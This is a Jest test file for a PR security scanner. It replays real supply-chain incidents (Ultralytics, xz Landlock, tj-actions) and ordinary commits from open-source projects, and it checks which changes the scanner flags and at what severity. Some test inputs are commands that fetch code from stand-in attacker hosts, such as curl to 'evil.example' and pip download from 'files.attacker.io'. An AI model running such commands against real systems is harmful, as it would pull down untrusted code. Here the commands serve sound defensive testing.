// Real history through the PR scan: each case of test/fixtures/real/ (a
// public commit, reduced to the files it touched) is built into a throw-away
// repository and scanned as a PR. The incidents must be high; the ordinary
// changes of real projects that earlier versions flagged must not be.
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Finding } from '@security-actions/core';
import { scanPr } from '../../actions/pr-anomaly-scan/src/engine';
import { isNetwork } from '../../actions/pr-anomaly-scan/src/build';
import { gitCheckout } from '../../actions/pr-anomaly-scan/src/git';
import { riskScore } from '../../actions/pr-anomaly-scan/src/score';
import { REPO_ROOT } from '../harness/run-action';
import { expectFires, expectQuiet } from '../helpers/rules';
import { type Files, type Identity, buildRepo } from './corpus/build';
import { reported } from './corpus/evaluate';

const DIR = join(REPO_ROOT, 'test/fixtures/real');
interface RealCase {
  name: string;
  /** The repository the change was made in (`owner/name`), as the event names it. */
  repo?: string;
  author?: Identity;
}
const INDEX = JSON.parse(readFileSync(join(DIR, 'index.json'), 'utf8')) as { cases: RealCase[] };

function tree(dir: string): Files {
  const out: Files = {};
  const walk = (d: string) => {
    for (const n of readdirSync(d)) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) walk(p);
      else out[relative(dir, p)] = readFileSync(p);
    }
  };
  try {
    walk(dir);
  } catch {
    // A side that does not exist (a change that only adds files) is empty.
  }
  return out;
}

interface Scanned {
  findings: Finding[];
  score: number;
  chains: string[];
}

async function scanCase(c: RealCase): Promise<Scanned> {
  const base = tree(join(DIR, c.name, 'base'));
  const head = tree(join(DIR, c.name, 'head'));
  for (const p of Object.keys(base)) if (!(p in head)) head[p] = null;
  const r = buildRepo(base, head, { author: c.author });
  const git = gitCheckout(r.dir);
  try {
    const res = reported(
      await scanPr({
        git,
        base: r.base,
        head: r.head,
        meta: { repo: c.repo },
        trustedOrgs: [],
        configPath: '.github/security-actions.yml'
      })
    );
    expect(res.errors ?? []).toEqual([]);
    const findings = res.findings.filter((f) => !f.suppression);
    return { findings, score: res.score.score, chains: res.score.chains };
  } finally {
    git.close();
    r.cleanup();
  }
}

const results = new Map<string, Scanned>();
beforeAll(async () => {
  for (const c of INDEX.cases) results.set(c.name, await scanCase(c));
}, 120_000);
afterAll(() => results.clear());

const of = (name: string) => results.get(name)!;
const lineOf = (file: string, needle: string) =>
  readFileSync(join(DIR, file), 'utf8')
    .split('\n')
    .findIndex((l) => l.includes(needle)) + 1;
const at = (findings: Finding[], rule: string) => findings.filter((f) => f.ruleId === rule);

describe('real incidents are high', () => {
  it('Ultralytics: the head ref newly reaching a shell step, though the same text sat in a with: input before', () => {
    const { findings } = of('ultralytics-head-ref');
    const line = lineOf('ultralytics-head-ref/head/action.yml', 'git pull origin ${{ github.head_ref');
    expect(lineOf('ultralytics-head-ref/base/action.yml', 'ref: ${{ github.head_ref || github.ref }}')).toBeGreaterThan(
      0
    );
    const hit = at(findings, 'workflow/template-injection').filter((f) => f.location?.line === line);
    expect(hit.map((f) => f.severity)).toContain('high');
    expectFires(findings, 'workflow/template-injection');
  });

  it('xz Landlock: the stray `.` in the CMake test program is high and says which feature it disables', () => {
    const { findings } = of('xz-landlock');
    const cmake = at(findings, 'build/feature-test').filter((f) => f.location?.file === 'CMakeLists.txt');
    expect(cmake).toHaveLength(1);
    expect(cmake[0].severity).toBe('high');
    expect(cmake[0].location?.line).toBe(lineOf('xz-landlock/head/CMakeLists.txt', 'check_c_source_compiles('));
    expect(cmake[0].message).toContain('HAVE_LINUX_LANDLOCK');
    expect(cmake[0].message).toMatch(/`\.`, is not C: the test cannot compile/);
    expect(cmake[0].properties?.after).toContain('#include <linux/landlock.h>');
    // The autoconf test of the same commit compiles: a security feature's test changed, medium, not high.
    const autoconf = at(findings, 'build/feature-test').filter((f) => f.location?.file === 'configure.ac');
    expect(autoconf.map((f) => f.severity)).toEqual(['medium']);
    // The ordinary configure.ac edit around it stays low.
    expect(at(findings, 'build/autotools').map((f) => f.severity)).toEqual(['low']);
  });

  it('xz Landlock fix: the repaired test is a change to review, not an alarm', () => {
    const fix = at(of('xz-landlock-fix').findings, 'build/feature-test');
    expect(fix.map((f) => f.severity)).toEqual(['medium']);
    expect(fix[0].properties?.before).toMatch(/^\.$/m);
  });

  it('tj-actions: a short shell payload decoded and run from a new function of the bundle', () => {
    const { findings, chains } = of('tj-actions-dist-shell');
    expectFires(findings, 'obfuscation/shell-decode-exec', 1);
    // The bundle's git calls were there before; only the new `bash -c` is a new sink.
    expectFires(findings, 'code/dist-exec-sink', 1);
    expect(at(findings, 'code/dist-exec-sink')[0].severity).toBe('high');
    expect(at(findings, 'obfuscation/shell-decode-exec')[0].severity).toBe('critical');
    expect(chains).toContain('obfuscated data reaches code execution');
  });
});

describe('ordinary changes of real projects stay quiet', () => {
  it('scikit-image: a new reusable workflow pinning actions by tag as every other workflow does is low', () => {
    const pins = at(of('scikit-image-reusable-workflow').findings, 'workflow/unpinned-uses');
    expect(pins.map((f) => `${f.evidence} ${f.severity}`).sort()).toEqual([
      'actions/cache@v4 low',
      'actions/checkout@v5 low',
      'actions/setup-python@v6 low',
      'actions/upload-artifact@v4 low'
    ]);
    expect(pins.every((f) => f.properties?.convention === 'repository')).toBe(true);
  });

  it('jupyterlab: a third-party action new to the project, pinned by tag, stays high', () => {
    const pins = at(of('jupyterlab-new-action').findings, 'workflow/unpinned-uses');
    expect(pins.map((f) => `${f.evidence} ${f.severity}`)).toEqual(['toshimaru/auto-author-assign@v1.3.4 high']);
  });

  it("xarray: a URL in a Sphinx Makefile's error message is no network access", () => {
    expectQuiet(of('xarray-sphinx-makefile').findings, 'build/test-runner-hook');
  });

  it('scikit-image: a git build requirement pinned to a tag of the same repository is no new source', () => {
    expectQuiet(of('scikit-image-devpy-tag').findings, 'deps/direct-url');
  });

  it('a message line is no network access, but a download in one still is', () => {
    expect(isNetwork('\t@echo "Docs: https://sphinx-doc.org/"')).toBe(false);
    expect(isNetwork("print('see https://numpy.org/doc')")).toBe(false);
    expect(isNetwork('$(warning get it from https://example.org/)')).toBe(false);
    expect(isNetwork('\techo $$(curl -s https://evil.example/p)')).toBe(true);
    expect(isNetwork('\tpip download https://files.attacker.io/p.whl')).toBe(true);
    expect(isNetwork('echoserver https://files.attacker.io/')).toBe(true);
  });

  it('a URL of a reserved name is no network access; a network call to one still is', () => {
    expect(isNetwork("        'test_file', ['https://www.example.com/test_file'], mocks.MOCK_HASH)")).toBe(false);
    for (const host of ['example.org', 'api.example.net', 'pkgs.example', 'mirror.test', 'x.invalid', 'a.localhost'])
      expect(isNetwork(`URL = "https://${host}/simple"`)).toBe(false);
    expect(isNetwork('URL = "https://example.com.attacker.io/simple"')).toBe(true);
    expect(isNetwork('URL = "https://notexample.com/simple"')).toBe(true);
    expect(isNetwork('r = requests.get("https://www.example.com/x")')).toBe(true);
  });

  it('xarray: gzip test data moved without a byte changed is low, not the xz alarm', () => {
    const moved = at(of('xarray-test-data-rename').findings, 'binary/compressed-test-data');
    expect(moved.map((f) => f.severity)).toEqual(['low']);
  });

  it('numpy: a documentation URL in a conftest.py comment is no network access', () => {
    expectQuiet(of('numpy-conftest-comment').findings, 'build/test-runner-hook');
  });

  it('numpy: a Dependabot configuration edit is low', () => {
    const gov = at(of('numpy-dependabot-config').findings, 'meta/governance-edit');
    expect(gov.map((f) => f.severity)).toEqual(['low']);
  });

  it('zarr-python: a new sub-package on a known backend, and a justfile probing a local port', () => {
    const { findings } = of('zarr-new-subpackage');
    expectQuiet(findings, 'build/test-runner-hook');
    expectQuiet(findings, 'build/build-backend');
  });

  it('ultralytics/actions: a documentation link in a with: input of a step that reads secrets is not a send', () => {
    expectQuiet(of('ultralytics-cla-link').findings, 'workflow/secrets-to-outside-host');
  });

  it('numpy: a pip line split over three lines keeps the extra index it had: low, saying so, not a new source', () => {
    const index = at(of('numpy-loong64-index').findings, 'deps/index-url');
    expect(index.length).toBeGreaterThan(0);
    expect(index.map((f) => f.severity)).toEqual(index.map(() => 'low'));
    expect(index[0].message).toContain('already names this index');
  });

  it('jupyter_client: more actions of a repository the base already runs by tag are low, saying so', () => {
    const pins = at(of('jupyter-client-maintainer-tools').findings, 'workflow/unpinned-uses');
    expect(pins.filter((f) => f.evidence?.startsWith('jupyterlab/maintainer-tools/')).length).toBe(5); // lines 18-44, not the comment
    expect(pins.map((f) => f.severity)).toEqual(pins.map(() => 'low'));
    expect(pins.every((f) => f.properties?.convention === 'repository')).toBe(true);
  });

  it("numba: `-i ${{ env.WHEELS_INDEX_URL }}` is judged by the workflow's own `env:`, the project's anaconda.org channel: low", () => {
    const index = at(of('numba-win-arm64-index').findings, 'deps/index-url');
    expect(index.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['74 low', '145 low']);
    expect(index[0].message).toContain('https://pypi.anaconda.org/numba/label/dev/simple');
  });

  it("nibabel: tox's GitHub Actions plugin installed from a branch of a personal fork in CI is a direct URL source (medium)", () => {
    const { findings } = of('nibabel-tox-fork');
    expectFires(findings, 'deps/direct-url', 1);
    const hit = at(findings, 'deps/direct-url');
    expect(hit.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['220 medium']);
    expect(hit[0].message).toContain('abiflags');
    // The step's other installs (tox, tox-uv from PyPI) and the workflow's wheel and sdist installs are no URL sources.
    expectQuiet(of('numba-win-arm64-index').findings, 'deps/direct-url');
  });

  it('shapely: a CI script that fetches GEOS over plain HTTP and builds it, with no checksum, is medium', () => {
    const hit = at(of('shapely-http-geos').findings, 'code/plain-http-download');
    expect(hit.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['52 medium']);
    // The same script's `git clone https://github.com/libgeos/geos.git` is no plain-HTTP download.
    expect(hit[0].message).toContain('download.osgeo.org');
    expectQuiet(of('numba-win-arm64-index').findings, 'code/plain-http-download');
  });

  it('sunpy: a job moved into a workflow whose workflow_run upstream only a schedule starts is no outsider-started job', () => {
    const { findings } = of('sunpy-workflow-run-schedule');
    const creds = at(findings, 'workflow/checkout-persist-credentials').filter((f) =>
      f.location?.file?.endsWith('ci.yml')
    );
    expect(creds.map((f) => f.severity).filter((s) => s !== 'low' && s !== 'info')).toEqual([]);
  });

  it('geopandas: a source the base cloned by another spelling is low; a new default-branch source stays medium', () => {
    const urls = at(of('geopandas-travis-sources').findings, 'deps/direct-url');
    expect(urls.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['73 medium', '78 low']);
    expect(urls[1].message).toContain('already installs from this source');
  });

  it('astropy: a maintainer editing CODEOWNERS is a governance edit to review (medium), not an alarm', () => {
    expect(at(of('astropy-codeowners').findings, 'meta/governance-edit').map((f) => f.severity)).toEqual(['medium']);
  });

  it('dask: one Dependabot tag bump in 8 workflows is no new unpinned action and scores low', () => {
    const { findings, score } = of('dask-dependabot-bump');
    expectQuiet(findings, 'workflow/unpinned-uses');
    expect(score).toBeLessThan(2);
  });
});

describe('held-out projects: what a change shows only in part, and inert images', () => {
  it('zarr-python: a silenced Popen in a pytest fixture whose def the change did not touch is not import time', () => {
    const silent = at(of('zarr-moto-fixture').findings, 'code/silent-process');
    expect(silent.map((f) => f.severity)).toEqual(['low']);
    expect(silent[0].message).not.toContain('import');
  });

  it('notebook: regenerated Playwright PNG snapshots and nothing else are inventory (low), not the xz alarm', () => {
    const only = at(of('notebook-playwright-snapshots').findings, 'binary/binary-only-change');
    expect(only.map((f) => f.severity)).toEqual(['low']);
    expect(only[0].properties?.rasterImagesOnly).toBe(true);
  });

  it('sunpy: a WebP saved as .png is reported as a mislabel (medium), not a disguise (high)', () => {
    const { findings } = of('sunpy-webp-as-png');
    expect(at(findings, 'binary/opaque-file').map((f) => f.severity)).toEqual(['medium']);
    // It is also the PR's only file here: an added raster image, low.
    expect(at(findings, 'binary/binary-only-change').map((f) => f.severity)).toEqual(['low']);
  });
});

describe('held-out projects: scientific data files and compressed data that can be looked into', () => {
  it('pyhf: a CERN ROOT file of validation data is a known data format, not an unrecognised random blob (high)', () => {
    const binary = of('pyhf-root-data').findings.filter((f) => f.ruleId.startsWith('binary/'));
    expect(binary.map((f) => `${f.ruleId} ${f.severity}`)).toEqual([]);
  });

  it('astroquery, arviz: gzip and zip of text and FITS under test or data folders are low, naming what is inside', () => {
    const inside = (name: string) =>
      at(of(name).findings, 'binary/compressed-test-data').map((f) => `${f.severity} ${f.properties?.inside}`);
    expect(inside('astroquery-euclid-zip')).toEqual([
      'low zip of 1 FITS file and 1 empty file',
      'low zip of 1 FITS file and 1 empty file'
    ]);
    expect(inside('astroquery-vot-gz')).toEqual(['low gzip of VOTable XML']);
    expect(inside('arviz-gzip-trace')).toEqual(['low gzip of CSV text (centered_eight_trace.gzip)']);
  });
});

describe('held-out projects: URLs that are ini values, reserved names or hosts the base names', () => {
  const CASES = [
    'notebook-project-urls',
    'jupyter-server-setup-cfg',
    'sunpy-tox-set-env',
    'sunpy-conftest-example-url',
    'nibabel-tox-uv-index',
    'nibabel-tox-index-moved'
  ];
  it.each(CASES)('%s: no test-runner-hook finding above low', (name) => {
    const hook = at(of(name).findings, 'build/test-runner-hook');
    expect(hook.filter((f) => f.severity !== 'low')).toEqual([]);
  });

  it('notebook, jupyter_server, sunpy: metadata URLs, set_env index settings and a reserved name: nothing at all', () => {
    for (const name of CASES.filter((n) => n !== 'nibabel-tox-index-moved'))
      expectQuiet(of(name).findings, 'build/test-runner-hook');
  });

  it('nibabel: a deps URL the base already named under a key that installs is reported low, saying so', () => {
    const hook = at(of('nibabel-tox-index-moved').findings, 'build/test-runner-hook');
    expect(hook.map((f) => `${f.location?.line} ${f.severity}`)).toEqual([
      `${lineOf('nibabel-tox-index-moved/head/tox.ini', 'pre: pydicom @ git+https')} low`
    ]);
    expect(hook[0].message).toContain('already names (github.com)');
  });

  it('the index settings among them are still reported by deps/index-url, at low', () => {
    for (const name of ['sunpy-tox-set-env', 'nibabel-tox-uv-index', 'nibabel-tox-index-moved']) {
      const index = at(of(name).findings, 'deps/index-url');
      expect(index.length).toBeGreaterThan(0);
      expect(index.map((f) => `${name}:${f.location?.line} ${f.severity}`)).toEqual(
        index.map((f) => `${name}:${f.location?.line} low`)
      );
    }
  });
});

describe('held-out misses: install-time git hooks and a release action handed index tokens', () => {
  it('nbformat #257: module-level `pre_commit install` in setup.py is install-time code (medium), no command class needed', () => {
    const hooks = at(of('nbformat-setup-pre-commit').findings, 'code/install-hook');
    const setup = 'nbformat-setup-pre-commit/head/setup.py';
    expect(hooks.map((f) => `${f.location?.line} ${f.severity}`)).toEqual([
      `${lineOf(setup, 'subprocess.run([sys.executable, "-m", "pre_commit", "install"])')} medium`,
      `${lineOf(setup, '"install", "--hook-type", "pre-push"') - 1} medium`
    ]);
    expect(hooks[0].message).toContain('`pre_commit install`');
  });

  it('nbformat #326: the job handing PYPI_TOKEN and NPM_TOKEN to jupyter_releaser publishes: no environment, tokens', () => {
    const { findings } = of('nbformat-releaser-tokens');
    const wf = 'nbformat-releaser-tokens/head/.github/workflows/publish-release.yml';
    const env = at(findings, 'publish/no-environment');
    expect(env.map((f) => `${f.location?.line} ${f.severity}`)).toEqual([`${lineOf(wf, 'publish_release:')} high`]);
    expect(env[0].message).toContain('step `Finalize Release` is given secrets.PYPI_TOKEN');
    expect(at(findings, 'publish/password').map((f) => `${f.location?.line} ${f.evidence}`)).toEqual([
      `${lineOf(wf, 'PYPI_TOKEN: ${{')} secrets.PYPI_TOKEN`,
      `${lineOf(wf, 'PYPI_TOKEN_MAP:')} secrets.PYPI_TOKEN_MAP`,
      `${lineOf(wf, 'NPM_TOKEN:')} secrets.NPM_TOKEN`
    ]);
    // Started by hand (workflow_dispatch): a decision to release, no trigger finding.
    expectQuiet(findings, 'publish/trigger');
  });
});

describe('the risk score counts a repeated finding once, with diminishing weight', () => {
  it('the same unpinned action newly added to 8 workflows is not 8 findings', () => {
    const head = tree(join(DIR, 'dask-dependabot-bump/head'));
    const one = (file: string): Finding => ({
      ...at(of('ultralytics-cla-link').findings, 'workflow/unpinned-uses')[0],
      location: { file, line: 14 }
    });
    const files = Object.keys(head);
    expect(files).toHaveLength(8);
    const single = riskScore([one(files[0])]);
    const eight = riskScore(files.map(one));
    expect(eight.score).toBeLessThan(2 * single.score);
    expect(eight.band).not.toBe('critical');
    // Distinct findings still add up in full.
    const distinct = riskScore(files.map((f, i) => ({ ...one(f), evidence: `owner/action${i}@v1` })));
    expect(distinct.score).toBeGreaterThan(eight.score + 2);
  });
});
